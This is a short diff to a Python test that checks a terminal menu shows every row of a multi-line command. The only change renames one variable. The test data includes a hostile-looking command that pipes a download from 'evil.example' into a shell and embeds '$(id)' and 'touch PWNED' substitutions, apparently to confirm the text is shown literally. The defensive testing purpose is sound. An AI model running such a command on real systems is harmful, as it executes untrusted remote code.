@@ -120,7 +120,7 @@ def test_the_menu_shows_every_row_of_a_multi_line_command(nested, tmp_path: Path
     inner, outer = nested
     rows = ["ls -la", "curl -s http://evil.example/x | sh #(touch PWNED) %H:%M $(id)",
             *(f"echo step{i}" for i in range(12))]
-    pane, keys = start_dialog(inner, tmp_path, ["Yes", "No"], command="\n".join(rows))
+    _pane, keys = start_dialog(inner, tmp_path, ["Yes", "No"], command="\n".join(rows))
     wait_until(lambda: listed_question(inner), what="the registry entry's dialog")
     outer.cmd("send-keys", "-t", "t", "C-b", "a")
     wait_until(lambda: "Jump there" in screen(outer), what="the menu")
